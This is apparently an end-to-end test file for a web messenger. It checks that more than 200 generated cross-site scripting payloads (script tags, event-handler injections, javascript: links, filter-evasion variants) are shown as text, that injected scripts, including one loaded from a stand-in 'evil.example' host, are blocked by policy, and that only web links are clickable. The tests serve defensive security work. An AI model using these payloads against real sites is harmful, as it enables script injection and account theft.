using Microsoft.Playwright;
using WebMessenger.EndToEnd.Tests.Servers;

namespace WebMessenger.EndToEnd.Tests.Browser;

public sealed class ScriptTests(SharedServer shared, Chromium chromium)
{
    private static readonly string[] _calls = ["pwned()", "window.pwned()", "top.pwned(1)", "pwned`1`", "setTimeout(pwned)", "(0,pwned)()"];

    private static readonly string[] _shapes =
    [
        "<script>{0}</script>", "<SCRIPT>{0}</SCRIPT >", "<scr<script>ipt>{0}</script>", "<img src=x onerror={0}>", "<IMG SRC=x ONERROR=\"{0}\">",
        "<img/src=x/onerror={0}>", "\"><img src=x onerror={0}>", "'><img src=x onerror={0}>", "<svg onload={0}>", "<svg><script>{0}</script></svg>",
        "<svg><animate onbegin={0} attributeName=x dur=1s>", "<math><mtext><img src=x onerror={0}>", "<body onload={0}>", "<iframe srcdoc=\"<script>parent.{0}</script>\">",
        "<iframe src=\"javascript:parent.{0}\">", "<object data=\"javascript:{0}\">", "<embed src=\"javascript:{0}\">", "<details open ontoggle={0}>x</details>",
        "<input autofocus onfocus={0}>", "<video><source onerror={0}></video>", "<audio src=x onerror={0}>", "<marquee onstart={0}>x</marquee>",
        "<a href=\"javascript:{0}\">click</a>", "javascript:{0}", "JaVaScRiPt:{0}", "data:text/html,<script>{0}</script>", "https://example.org/\"onmouseover=\"{0}",
        "https://example.org/'onmouseover='{0}", "[x](javascript:{0})", "{{{{{0}}}}}", "${{{0}}}", "{{@html {0}}}", "&lt;img src=x onerror={0}&gt;", "<!--><img src=x onerror={0}>-->",
    ];

    public static IReadOnlyList<string> Payloads => [.. _shapes.SelectMany(shape => _calls.Select(call => string.Format(null, shape, call)))];

    [Fact]
    public async Task Attack_51_Two_hundred_scripts_in_texts_names_and_titles_are_shown_and_none_runs()
    {
        const string Markup = "<img src=x onerror=pwned()>";
        using var mallory = await Person.RegisterAsync(shared.Server, "mallory", Markup);
        var room = await mallory.NewRoomAsync(title: Markup);
        using var bea = await Person.RegisterAsync(shared.Server, "bea");
        await using var browser = await chromium.VisitorAsync(shared.Server);
        await browser.BeAsync(bea);
        await browser.Context.ExposeFunctionAsync("pwned", () => browser.Complain("a script of Mallory's ran"));
        var chat = await ChatPage.OpenAsync(browser, room);
        chat.Page.Dialog += (_, dialog) => browser.Complain($"a dialog: {dialog.Message}");
        await using var client = await shared.Server.PageAsync(mallory.Cookie);
        Assert.True((await client.ConnectAsync()).Accepted);
        await client.SubscribeAsync($"rooms/{room}");
        Assert.InRange(Payloads.Count, 200, 300);

        foreach (var payload in Payloads)
        {
            Assert.True((await client.PublishAsync($"rooms/{room}", payload)).Accepted);
        }

        var marker = Lobby.Unique("the last");
        await client.PublishAsync($"rooms/{room}", marker);
        await chat.SeesAsync(marker);
        // Between backticks stands code, which is shown without them.
        Assert.Equal(Payloads.Select(payload => payload.Replace("`1`", "1", StringComparison.Ordinal)), (await chat.SaidAsync()).SkipLast(1).TakeLast(Payloads.Count));
        await Assertions.Expect(chat.Page.GetByRole(AriaRole.Heading, new() { Name = Markup, Exact = true })).ToBeVisibleAsync();
        await chat.ReadFromTheBeginningAsync();
        await Assertions.Expect(chat.Messages.GetByText(" came in").Filter(new() { HasText = Markup })).ToBeVisibleAsync();
        browser.AssertNoComplaints();
    }

    /// <summary>The second fence: what a fault of ours might let into the page one day.</summary>
    [Fact]
    public async Task Attack_51_Markup_that_got_into_the_page_all_the_same_runs_nothing()
    {
        using var bea = await Person.RegisterAsync(shared.Server, "bea");
        await using var browser = await chromium.VisitorAsync(shared.Server);
        await browser.BeAsync(bea);
        List<string> ran = [];
        await browser.Context.ExposeFunctionAsync("pwned", () => ran.Add("a script ran"));
        var chat = await ChatPage.OpenAsync(browser);

        // Each in a way that a browser without rules obeys.
        var outcomes = await chat.Page.EvaluateAsync<string[]>("""
            async () => {
              const tries = [
                () => { document.body.appendChild(document.createElement('div')).innerHTML = '<img src="/nothing" onerror="pwned()">'; },
                () => { const script = document.createElement('script'); script.textContent = 'pwned()'; document.body.append(script); },
                () => { const script = document.createElement('script'); script.src = 'https://evil.example/x.js'; document.body.append(script); },
                () => { const button = document.createElement('button'); button.setAttribute('onclick', 'pwned()'); document.body.append(button); button.click(); },
                () => { const link = document.createElement('a'); link.href = 'javascript:pwned()'; document.body.append(link); link.click(); },
                () => { setTimeout('pwned()'); },
              ];
              const outcomes = tries.map(attempt => { try { attempt(); return 'done'; } catch (error) { return error.name; } });
              await new Promise(resolve => { const image = new Image(); image.onerror = image.onload = resolve; image.src = '/nothing-either'; });
              return outcomes;
            }
            """);

        // What the policy refuses at once throws; what it refuses later is reported.
        Assert.All(outcomes[..4], outcome => Assert.Equal("TypeError", outcome));
        await browser.ComplainedAsync();
        Assert.Empty(ran);
    }

    [Fact]
    public async Task Attack_52_Only_links_to_the_web_are_links()
    {
        using var mallory = await Person.RegisterAsync(shared.Server, "mallory");
        var room = await mallory.NewRoomAsync();
        await using var browser = await chromium.VisitorAsync(shared.Server);
        await browser.BeAsync(mallory);
        var chat = await ChatPage.OpenAsync(browser, room);

        await chat.SayAsync("https://example.org/a javascript:alert(1) data:text/html,x vbscript:x file:///etc/passwd http://example.org/b");
        await chat.SayAsync("[called](javascript:alert(1)) [called](data:text/html,x) [called](https://example.org/c) javascript://example.org/%0aalert(1)");
        await chat.SayAsync("that was all");

        await chat.SeesAsync("that was all");
        var links = await chat.Messages.GetByRole(AriaRole.Link).EvaluateAllAsync<string[]>("all => all.map(link => link.href)");
        Assert.Equal(["https://example.org/a", "http://example.org/b", "https://example.org/c"], links);
        Assert.All(
            await chat.Messages.GetByRole(AriaRole.Link).EvaluateAllAsync<string[]>("all => all.map(link => link.rel)"),
            rel => Assert.Contains("noopener", rel, StringComparison.Ordinal));
    }
}
